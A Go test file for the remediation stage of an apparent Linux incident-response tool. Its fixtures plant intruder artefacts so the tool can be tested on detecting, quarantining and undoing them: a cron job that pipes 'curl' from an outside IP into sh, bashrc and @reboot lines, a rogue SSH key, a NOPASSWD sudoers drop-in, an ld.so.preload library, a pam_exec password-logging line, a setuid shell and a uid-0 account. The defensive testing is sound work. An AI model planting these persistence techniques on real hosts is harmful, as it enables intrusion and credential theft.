package clean

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/nowwhat/nowwhat/internal/base/finding"
	"github.com/nowwhat/nowwhat/internal/base/fixture"
	"github.com/nowwhat/nowwhat/internal/base/hostfs"
	"github.com/nowwhat/nowwhat/internal/base/snapshot"
	"github.com/nowwhat/nowwhat/internal/probe/capture"
	"github.com/nowwhat/nowwhat/internal/probe/sudoers"
	"github.com/nowwhat/nowwhat/internal/stage/check"
	"github.com/nowwhat/nowwhat/internal/stage/contain"
)

func needRoot(t *testing.T) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root (file owners, capabilities)")
	}
}

// baseline takes an unsigned baseline snapshot of a root.
func baseline(t *testing.T, root string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "base.snap")
	fsys, err := hostfs.Open(root)
	if err != nil {
		t.Fatal(err)
	}
	defer fsys.Close()
	w, err := snapshot.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := capture.Take(context.Background(), fsys, w, capture.Options{}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return p
}

// tree is a root's state as a list of lines: path, type, mode, owner, size, modification time,
// content digest or link target, capabilities. Two trees are equal when the roots are byte
// identical for everything a person or a program reads.
func tree(t *testing.T, root string) []string {
	t.Helper()
	var out []string
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		var st unix.Stat_t
		if unix.Lstat(p, &st) != nil {
			return nil
		}
		rel := strings.TrimPrefix(p, root)
		line := fmt.Sprintf("%s %o %d:%d %d %d", rel, st.Mode, st.Uid, st.Gid, st.Size, st.Mtim.Nano())
		switch st.Mode & unix.S_IFMT {
		case unix.S_IFREG:
			b, _ := os.ReadFile(p)
			s := sha256.Sum256(b)
			line += " " + hex.EncodeToString(s[:8])
			buf := make([]byte, 256)
			if n, err := unix.Lgetxattr(p, "security.capability", buf); err == nil {
				line += " caps=" + hex.EncodeToString(buf[:n])
			}
		case unix.S_IFLNK:
			l, _ := os.Readlink(p)
			line += " -> " + l
		}
		out = append(out, line)
		return nil
	})
	sort.Strings(out)
	return out
}

func diffTrees(a, b []string) []string {
	in := map[string]int{}
	for _, l := range a {
		in[l]++
	}
	for _, l := range b {
		in[l]--
	}
	var out []string
	for l, n := range in {
		if n != 0 {
			out = append(out, fmt.Sprintf("%+d %s", n, l))
		}
	}
	sort.Strings(out)
	return out
}

func runClean(t *testing.T, opt Options, apply bool) *Result {
	t.Helper()
	res, err := Run(context.Background(), opt, apply)
	if err != nil {
		t.Fatalf("clean (apply %v): %v\n%s", apply, err, dumpSteps(res))
	}
	return res
}

func dumpSteps(r *Result) string {
	if r == nil {
		return ""
	}
	var b strings.Builder
	for _, g := range r.Gates {
		fmt.Fprintf(&b, "gate %s ok=%v: %s\n", g.Name, g.OK, g.Message)
	}
	for _, s := range r.Steps {
		fmt.Fprintf(&b, "step %d %s %s %s [%s] %s %v\n", s.N, s.Kind, s.Path, s.User, s.State, s.Reason, s.Answers)
		for _, c := range s.Change {
			fmt.Fprintf(&b, "    %s\n", c)
		}
	}
	return b.String()
}

// remaining lists what a check against the baseline still finds unexplained above low.
func remaining(t *testing.T, root, base string) []finding.Finding {
	t.Helper()
	rep, err := check.Run(context.Background(), check.Options{Root: root, Baselines: []string{base}, UnsignedOK: true})
	if err != nil {
		t.Fatal(err)
	}
	var out []finding.Finding
	for _, f := range rep.Findings {
		if Actionable(f) {
			out = append(out, f)
		}
	}
	return out
}

func undoAll(t *testing.T, root, caseDir string) {
	t.Helper()
	env, err := contain.NewEnv(root, Journal(caseDir))
	if err != nil {
		t.Fatal(err)
	}
	defer env.Close()
	in, err := contain.InForce(env.Journal)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range in {
		if err := contain.Undo(env, e, ""); err != nil {
			t.Fatalf("undo %s %s: %v", e.Kind, e.Target, err)
		}
	}
}

const intruderKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBn8Zkq7bU2x0mC6nV9lP3sR4tY5uW6vX7yZ8aB9cD0e support@helpdesk"

// attacks are what an intruder leaves, each with the kind of step clean must answer it with.
var attacks = []struct {
	name  string
	do    func(r *fixture.Root)
	kinds []string
	paths []string // paths that must be gone (or back to the baseline) after clean
}{
	{"cron file and hidden tool", func(r *fixture.Root) {
		r.MkdirAll("/var/tmp/.apt-cache", 0o755)
		r.File("/var/tmp/.apt-cache/apt-check", "#!/bin/sh\ncurl -s http://203.0.113.66/u | sh\n", 0o755)
		r.File("/etc/cron.d/apt-compat-check", "*/10 * * * * root /var/tmp/.apt-cache/apt-check >/dev/null 2>&1\n", 0o644)
	}, []string{StepQuarantine}, []string{"/etc/cron.d/apt-compat-check", "/var/tmp/.apt-cache"}},
	{"root crontab line", func(r *fixture.Root) {
		r.Append("/etc/crontab", "@reboot root /dev/shm/.x/run >/dev/null 2>&1\n")
	}, []string{StepLines}, nil},
	{"systemd service, timer and link", func(r *fixture.Root) {
		r.File("/etc/systemd/system/journal-sync.service", "[Service]\nExecStart=/var/tmp/.js/sync\n", 0o644)
		r.File("/etc/systemd/system/journal-sync.timer", "[Timer]\nOnCalendar=*:0/15\n[Install]\nWantedBy=timers.target\n", 0o644)
		r.MkdirAll("/etc/systemd/system/timers.target.wants", 0o755)
		r.Symlink("/etc/systemd/system/journal-sync.timer", "/etc/systemd/system/timers.target.wants/journal-sync.timer")
	}, []string{StepUnit}, []string{"/etc/systemd/system/journal-sync.service", "/etc/systemd/system/timers.target.wants/journal-sync.timer"}},
	{"bashrc line", func(r *fixture.Root) {
		r.Append("/root/.bashrc", "(nohup /var/tmp/.x/agent >/dev/null 2>&1 &)\n")
	}, []string{StepLines}, nil},
	{"authorized key line", func(r *fixture.Root) {
		r.Append("/home/alice/.ssh/authorized_keys", intruderKey+"\n")
	}, []string{StepLines}, nil},
	{"sudoers drop-in", func(r *fixture.Root) {
		r.File("/etc/sudoers.d/90-www", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)
	}, []string{StepQuarantine}, []string{"/etc/sudoers.d/90-www"}},
	{"preload", func(r *fixture.Root) {
		r.File("/usr/local/lib/libdbus-sys.so", "\x7fELF\x02\x01\x01rootkit", 0o755)
		r.File("/etc/ld.so.preload", "/usr/local/lib/libdbus-sys.so\n", 0o644)
	}, []string{StepQuarantine}, []string{"/etc/ld.so.preload", "/usr/local/lib/libdbus-sys.so"}},
	{"pam line", func(r *fixture.Root) {
		r.Append("/etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /usr/lib/.pam/log.sh\n")
	}, []string{StepLines}, nil},
	{"setuid shell copy", func(r *fixture.Root) {
		r.File("/var/tmp/.bash", "\x7fELF\x02\x01\x01bash", 0o755)
		r.Chmod("/var/tmp/.bash", 0o4755|os.ModeSetuid)
	}, []string{StepQuarantine}, []string{"/var/tmp/.bash"}},
}

// TestCleanAttacks: on a Debian fixture root, each attack is planned, applied, checked against
// the baseline (nothing left above low), and undone: the root is then identical to the
// compromised one.
func TestCleanAttacks(t *testing.T) {
	needRoot(t)
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			r := fixture.Debian(t)
			r.MkdirAll("/home/alice/.ssh", 0o700)
			r.File("/home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice@laptop\n", 0o600)
			r.File("/root/.bashrc", "# ~/.bashrc\nexport PS1='# '\n", 0o644)
			r.File("/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n", 0o644)
			r.File("/etc/pam.d/common-auth", "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n", 0o644)
			r.File("/etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n", 0o440)
			r.MkdirAll("/etc/sudoers.d", 0o755)
			r.MkdirAll("/etc/systemd/system", 0o755)
			r.MkdirAll("/var/tmp", 0o1777)
			r.MkdirAll("/usr/local/lib", 0o755)
			time.Sleep(10 * time.Millisecond)
			base := baseline(t, r.Dir)
			a.do(r)
			compromised := tree(t, r.Dir)
			caseDir := t.TempDir()
			opt := Options{Root: r.Dir, CaseDir: caseDir, Baselines: []string{base}, UnsignedOK: true, NoEvidence: "test", InPlace: "test", Offline: true}
			plan := runClean(t, opt, false)
			if got := tree(t, r.Dir); len(diffTrees(compromised, got)) > 0 {
				t.Fatalf("the plan changed the host: %v", diffTrees(compromised, got))
			}
			kinds := map[string]bool{}
			for _, s := range plan.Steps {
				kinds[s.Kind] = true
			}
			for _, k := range a.kinds {
				if !kinds[k] {
					t.Errorf("no %s step in the plan:\n%s", k, dumpSteps(plan))
				}
			}
			res := runClean(t, opt, true)
			if res.Failed > 0 || res.Applied == 0 {
				t.Fatalf("applied %d, failed %d:\n%s", res.Applied, res.Failed, dumpSteps(res))
			}
			for _, p := range a.paths {
				if _, err := os.Lstat(r.Path(p)); !errors.Is(err, os.ErrNotExist) {
					t.Errorf("%s is still there", p)
				}
			}
			if left := remaining(t, r.Dir, base); len(left) > 0 {
				for _, f := range left {
					t.Errorf("after clean, check still finds: %s %s %s", f.Rule, f.Path, f.Title)
				}
			}
			if _, bad := sudoers.Load(context.Background(), mustFS(t, r.Dir)); len(bad) > 0 {
				t.Errorf("sudoers does not parse after clean: %v", bad)
			}
			// Quarantined copies are 0600 and never executable.
			filepath.WalkDir(filepath.Join(caseDir, QuarantineDir), func(p string, d fs.DirEntry, err error) error {
				if err == nil && d.Type().IsRegular() {
					if st, _ := os.Stat(p); st.Mode().Perm() != 0o600 {
						t.Errorf("quarantined %s has mode %v", p, st.Mode())
					}
				}
				return nil
			})
			undoAll(t, r.Dir, caseDir)
			if d := diffTrees(compromised, tree(t, r.Dir)); len(d) > 0 {
				t.Errorf("after undo the root differs from the compromised one:\n%s", strings.Join(d, "\n"))
			}
		})
	}
}

func mustFS(t *testing.T, root string) *hostfs.FS {
	fsys, err := hostfs.Open(root)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { fsys.Close() })
	return fsys
}

// TestSudoersContinuation: without a baseline, the finding names only the first line of a rule
// continued on the next; removing it alone would leave a line sudo cannot parse, so the step is
// refused and nothing is written. With the baseline's text both lines go and sudo parses.
func TestSudoersContinuation(t *testing.T) {
	needRoot(t)
	r := fixture.Debian(t)
	r.File("/etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n", 0o440)
	base := baseline(t, r.Dir)
	r.Append("/etc/sudoers", "www-data ALL=(ALL) NOPASSWD: \\\n    /bin/sh\n")
	before := r.Read("/etc/sudoers")
	caseDir := t.TempDir()
	f := finding.Finding{Rule: "persistence.sudoers", Severity: finding.High, Path: "/etc/sudoers", User: "www-data",
		Title: "www-data may run /bin/sh as root without a password", Evidence: []string{"/etc/sudoers line 3: www-data ALL=(ALL) NOPASSWD: /bin/sh"}}
	opt := Options{Root: r.Dir, CaseDir: caseDir, Findings: []finding.Finding{f}, NoEvidence: "test", InPlace: "test", Offline: true}
	res, err := Run(context.Background(), opt, true)
	if err != nil && !strings.Contains(err.Error(), "sudo") {
		t.Fatalf("clean: %v", err)
	}
	if res == nil || len(res.Steps) != 1 || res.Steps[0].State != StateRefused || !strings.Contains(res.Steps[0].Reason, "sudo") {
		t.Fatalf("want the step refused for sudo's sake:\n%s", dumpSteps(res))
	}
	if r.Read("/etc/sudoers") != before {
		t.Fatal("the refused step changed /etc/sudoers")
	}
	opt.Baselines, opt.UnsignedOK = []string{base}, true
	res = runClean(t, opt, true)
	if res.Applied != 1 {
		t.Fatalf("with the baseline: %s", dumpSteps(res))
	}
	if strings.Contains(r.Read("/etc/sudoers"), "www-data") {
		t.Fatal("the back door is still in /etc/sudoers")
	}
	if _, bad := sudoers.Load(context.Background(), mustFS(t, r.Dir)); len(bad) > 0 {
		t.Fatalf("sudoers does not parse: %v", bad)
	}
}

// TestAccountLocked: an added uid-0 account is locked and its shell taken, not deleted; undo
// gives the account files back byte for byte.
func TestAccountLocked(t *testing.T) {
	needRoot(t)
	r := fixture.Debian(t)
	base := baseline(t, r.Dir)
	r.Append("/etc/passwd", "sysadm:x:0:0::/root:/bin/bash\n")
	r.Append("/etc/shadow", "sysadm:$6$salt$abcdefghijklmnopqrstuv:19700:0:99999:7:::\n")
	compromised := tree(t, r.Dir)
	caseDir := t.TempDir()
	opt := Options{Root: r.Dir, CaseDir: caseDir, Baselines: []string{base}, UnsignedOK: true, NoEvidence: "test", InPlace: "test", Offline: true}
	res := runClean(t, opt, true)
	if res.Applied == 0 {
		t.Fatalf("nothing applied:\n%s", dumpSteps(res))
	}
	if !AccountLocked(r.Dir, "sysadm") {
		t.Fatalf("sysadm not locked: %q %q", r.Read("/etc/passwd"), r.Read("/etc/shadow"))
	}
	if !strings.Contains(r.Read("/etc/passwd"), "sysadm:x:0:0") {
		t.Fatal("the account was deleted")
	}
	data, _ := os.ReadFile(Journal(caseDir).Path)
	if strings.Contains(string(data), "abcdefghijklmnopqrstuv") {
		t.Fatal("the password hash was stored in the journal")
	}
	undoAll(t, r.Dir, caseDir)
	if d := diffTrees(compromised, tree(t, r.Dir)); len(d) > 0 {
		t.Errorf("after undo:\n%s", strings.Join(d, "\n"))
	}
}

// TestRestoreFromBackup: a changed nginx site config is restored from a backup whose copy
// matches the baseline; a copy that does not match is refused, and nothing is written.
func TestRestoreFromBackup(t *testing.T) {
	needRoot(t)
	const good = "server {\n\tlisten 80 default_server;\n\troot /var/www/html;\n}\n"
	const evil = "server {\n\tlisten 80 default_server;\n\troot /var/www/html;\n\tlocation /x { proxy_pass http://203.0.113.9; }\n}\n"
	r := fixture.Debian(t)
	r.File("/etc/nginx/sites-available/default", good, 0o644)
	base := baseline(t, r.Dir)
	r.File("/etc/nginx/sites-available/default", evil, 0o644)
	f := finding.Finding{Rule: "baseline.change", Severity: finding.Medium, Path: "/etc/nginx/sites-available/default", Title: "file modified since the baseline"}
	for _, c := range []struct {
		name, backup string
		restored     bool
	}{{"matching backup", good, true}, {"backup taken after the intrusion", evil + "# later\n", false}, {"no copy", "", false}} {
		t.Run(c.name, func(t *testing.T) {
			bk := t.TempDir()
			if c.backup != "" {
				os.MkdirAll(filepath.Join(bk, "etc/nginx/sites-available"), 0o755)
				os.WriteFile(filepath.Join(bk, "etc/nginx/sites-available/default"), []byte(c.backup), 0o644)
			}
			opt := Options{Root: r.Dir, CaseDir: t.TempDir(), Baselines: []string{base}, UnsignedOK: true, Findings: []finding.Finding{f},
				RestoreFrom: bk, NoEvidence: "test", InPlace: "test", Offline: true}
			res := runClean(t, opt, true)
			got := r.Read("/etc/nginx/sites-available/default")
			if c.restored {
				if got != good || res.Applied != 1 {
					t.Fatalf("not restored (applied %d):\n%s", res.Applied, dumpSteps(res))
				}
				undoAll(t, r.Dir, opt.CaseDir)
				if r.Read("/etc/nginx/sites-available/default") != evil {
					t.Fatal("undo did not put the changed file back")
				}
				return
			}
			if got != evil {
				t.Fatal("a backup that does not match the baseline was written")
			}
			s := res.Steps[0]
			if s.State != StateRefused && s.State != StateManual || !strings.Contains(s.Diff, "proxy_pass") {
				t.Fatalf("want a refused or manual step showing the change:\n%s\n%s", dumpSteps(res), s.Diff)
			}
		})
	}
}

// TestRestorePackageFromSignedRepo: a trojaned packaged program is restored from a package of
// an archive served on loopback and signed with a test key given as --keyring; a tampered .deb
// and an InRelease signed by another key are refused, and nothing is written.
func TestRestorePackageFromSignedRepo(t *testing.T) {
	needRoot(t)
	const real = "\x7fELF\x02\x01\x01 the real ps"
	r := fixture.Debian(t)
	r.Package("procps", "2:4.0.2-3", map[string]string{"/usr/bin/ps": real})
	base := baseline(t, r.Dir)
	r.File("/usr/bin/ps", "\x7fELF\x02\x01\x01 trojan", 0o755)
	debData := fixture.Deb(t, "procps", "2:4.0.2-3", "amd64", map[string]fixture.DebFile{"/usr/bin/ps": {Mode: 0o755, Data: real}})
	for _, c := range []struct {
		name   string
		mangle func(repo *fixture.Repo)
		want   string // "" restored, else the refusal's words
	}{
		{"verified", nil, ""},
		{"tampered deb", func(repo *fixture.Repo) {
			p := filepath.Join(repo.Dir, "pool/main/p/procps/procps_2:4.0.2-3_amd64.deb")
			b, _ := os.ReadFile(p)
			b[len(b)-10] ^= 0xff
			os.WriteFile(p, b, 0o644)
		}, "digest mismatch"},
		{"bad signature", func(repo *fixture.Repo) {
			p := filepath.Join(repo.Dir, "dists/bookworm/InRelease")
			b, _ := os.ReadFile(p)
			os.WriteFile(p, []byte(strings.Replace(string(b), "Origin: Test", "Origin: Tesx", 1)), 0o644)
		}, "bad signature"},
	} {
		t.Run(c.name, func(t *testing.T) {
			repo := fixture.SignedRepo(t, t.TempDir(), "bookworm", "amd64", map[string][]byte{"procps_2:4.0.2-3_amd64": debData})
			if c.mangle != nil {
				c.mangle(repo)
			}
			srv := httptest.NewServer(http.FileServer(http.Dir(repo.Dir)))
			defer srv.Close()
			r.File("/etc/apt/sources.list", "deb "+srv.URL+" bookworm main\n", 0o644)
			before := r.Read("/usr/bin/ps")
			opt := Options{Root: r.Dir, CaseDir: t.TempDir(), Baselines: []string{base}, UnsignedOK: true, Keyring: repo.Keyring, NoEvidence: "test", InPlace: "test"}
			res := runClean(t, opt, true)
			var step *Step
			for i := range res.Steps {
				if res.Steps[i].Path == "/usr/bin/ps" {
					step = &res.Steps[i]
				}
			}
			if step == nil {
				t.Fatalf("no step for /usr/bin/ps:\n%s", dumpSteps(res))
			}
			if c.want == "" {
				if r.Read("/usr/bin/ps") != real || step.State != StateApplied {
					t.Fatalf("not restored:\n%s", dumpSteps(res))
				}
				if st, _ := os.Stat(r.Path("/usr/bin/ps")); st.Mode().Perm() != 0o755 {
					t.Errorf("restored with mode %v", st.Mode())
				}
				undoAll(t, r.Dir, opt.CaseDir)
				if r.Read("/usr/bin/ps") != before {
					t.Fatal("undo did not put the trojan back (for the investigation)")
				}
				return
			}
			if r.Read("/usr/bin/ps") != before {
				t.Fatal("something was written although the chain did not verify")
			}
			if step.State != StateRefused || !strings.Contains(step.Reason, c.want) {
				t.Fatalf("want refused with %q:\n%s", c.want, dumpSteps(res))
			}
		})
	}
}

// TestGates: without evidence, with root taken and the way in unknown, apply is refused and
// nothing changes; the reasons are given.
func TestGates(t *testing.T) {
	needRoot(t)
	r := fixture.Debian(t)
	base := baseline(t, r.Dir)
	r.File("/etc/ld.so.preload", "/usr/local/lib/libx.so\n", 0o644)
	before := tree(t, r.Dir)
	opt := Options{Root: r.Dir, CaseDir: t.TempDir(), Baselines: []string{base}, UnsignedOK: true, Offline: true}
	res, err := Run(context.Background(), opt, true)
	if !errors.Is(err, ErrBlocked) {
		t.Fatalf("want refused, got %v:\n%s", err, dumpSteps(res))
	}
	names := map[string]bool{}
	for _, g := range res.Gates {
		if g.Blocks && !g.OK {
			names[g.Name] = true
		}
	}
	if !names["evidence"] || !names["rebuild"] {
		t.Fatalf("gates: %v", res.Gates)
	}
	if d := diffTrees(before, tree(t, r.Dir)); len(d) > 0 {
		t.Fatalf("a refused clean changed the host: %v", d)
	}
	opt.NoEvidence, opt.InPlace = "lab copy", "lab copy"
	if _, err := Run(context.Background(), opt, true); err != nil {
		t.Fatalf("with reasons given: %v", err)
	}
}

// TestCrash: a clean killed between the intent and the outcome (after the change, or before it)
// leaves a journal that undo reverses: the root comes back as it was.
func TestCrash(t *testing.T) {
	needRoot(t)
	if os.Getenv("NOWWHAT_CLEAN_CRASH_CHILD") != "" {
		opt := Options{Root: os.Getenv("ROOT"), CaseDir: os.Getenv("CASE"), Baselines: []string{os.Getenv("BASE")}, UnsignedOK: true, NoEvidence: "t", InPlace: "t", Offline: true}
		Run(context.Background(), opt, true)
		os.Exit(0)
	}
	for _, point := range []string{"intent", "applied"} {
		t.Run(point, func(t *testing.T) {
			r := fixture.Debian(t)
			r.File("/root/.bashrc", "# rc\n", 0o644)
			base := baseline(t, r.Dir)
			r.File("/etc/cron.d/evil", "* * * * * root /tmp/.x\n", 0o644)
			r.Append("/root/.bashrc", "/var/tmp/.y &\n")
			compromised := tree(t, r.Dir)
			caseDir := t.TempDir()
			cmd := exec.Command(os.Args[0], "-test.run=^TestCrash$")
			cmd.Env = append(os.Environ(), "NOWWHAT_CLEAN_CRASH_CHILD=1", "NOWWHAT_TEST_CRASH="+point, "ROOT="+r.Dir, "CASE="+caseDir, "BASE="+base)
			err := cmd.Run()
			var ee *exec.ExitError
			if !errors.As(err, &ee) || ee.Sys().(syscall.WaitStatus).Signal() != syscall.SIGKILL {
				t.Fatalf("the child was not killed at %s: %v", point, err)
			}
			in, _ := contain.InForce(Journal(caseDir))
			if len(in) != 1 || in[0].Phase != contain.PhaseIntent {
				t.Fatalf("journal after the crash: %+v", in)
			}
			undoAll(t, r.Dir, caseDir)
			if d := diffTrees(compromised, tree(t, r.Dir)); len(d) > 0 {
				t.Errorf("after undo of the interrupted step:\n%s", strings.Join(d, "\n"))
			}
		})
	}
}

// TestLines: hunks turn a file into the baseline's text and back.
func TestLines(t *testing.T) {
	for _, c := range []struct{ cur, want string }{
		{"a\nb\nc\n", "a\nc\n"},
		{"a\nX\nc\n", "a\nb\nc\n"},
		{"x\na\n", "a\n"},
		{"a\n", "a\nb\n"},
		{"", "a\n"},
	} {
		cur, want := strings.Split(c.cur, "\n"), strings.Split(c.want, "\n")
		h, ok := lineHunks(cur, want)
		if !ok {
			t.Fatal("too large")
		}
		got, inv, err := applyHunks(cur, h)
		if err != nil || strings.Join(got, "\n") != c.want {
			t.Fatalf("%q -> %q: got %q %v", c.cur, c.want, strings.Join(got, "\n"), err)
		}
		back, _, err := applyHunks(got, inv)
		if err != nil || strings.Join(back, "\n") != c.cur {
			t.Fatalf("inverse of %q: %q %v", c.cur, strings.Join(back, "\n"), err)
		}
	}
}

// TestRestoreRealDebianPackages: a trojaned /usr/bin/ps and libproc2 under
// /usr/lib/x86_64-linux-gnu on a merged-/usr Debian 12 root are restored from Debian's own
// packages, fetched from the mirror of the root's sources.list and verified with the keys built
// into nowwhat; the written files match the packages' md5sums. Skipped when the mirror cannot
// be reached (it can, here and in CI).
func TestRestoreRealDebianPackages(t *testing.T) {
	needRoot(t)
	const version = "2:4.0.2-3"
	cli := &http.Client{Timeout: 10 * time.Second}
	if resp, err := cli.Get("http://deb.debian.org/debian/dists/bookworm/InRelease"); err != nil {
		t.Skipf("Debian's mirror is not reachable: %v", err)
	} else {
		resp.Body.Close()
	}
	r := fixture.Debian(t)
	r.File("/etc/apt/sources.list", "deb http://deb.debian.org/debian bookworm main\n", 0o644)
	// dpkg's records as on bookworm: procps ships /bin/ps, libproc2-0 /lib/...; /usr/bin/ps is
	// the same file on a merged-/usr host.
	r.Package("procps", version, map[string]string{"/bin/ps": "trojan ps"})
	r.Package("libproc2-0", version, map[string]string{"/lib/x86_64-linux-gnu/libproc2.so.0.0.1": "trojan lib"})
	r.File("/usr/bin/ps", "\x7fELF trojan ps", 0o755)
	r.File("/usr/lib/x86_64-linux-gnu/libproc2.so.0.0.1", "\x7fELF trojan lib", 0o644)
	fs := []finding.Finding{
		{Rule: "integrity.modified-binary", Severity: finding.Critical, Path: "/usr/bin/ps", Title: "/usr/bin/ps differs from its package"},
		{Rule: "integrity.modified-file", Severity: finding.High, Path: "/usr/lib/x86_64-linux-gnu/libproc2.so.0.0.1", Title: "libproc2 differs from its package"},
	}
	caseDir := t.TempDir()
	opt := Options{Root: r.Dir, CaseDir: caseDir, Findings: fs, NoEvidence: "test", InPlace: "test"}
	res := runClean(t, opt, true)
	if res.Applied != 2 {
		t.Fatalf("applied %d:\n%s", res.Applied, dumpSteps(res))
	}
	for _, s := range res.Steps {
		b, _ := os.ReadFile(r.Path(s.Path))
		if len(b) < 10000 || string(b[:4]) != "\x7fELF" {
			t.Fatalf("%s: %d bytes written", s.Path, len(b))
		}
		t.Logf("%s restored: %s", s.Path, strings.Join(s.Change, "; "))
	}
	undoAll(t, r.Dir, caseDir)
	if r.Read("/usr/bin/ps") != "\x7fELF trojan ps" {
		t.Fatal("undo did not put the trojan back")
	}
}
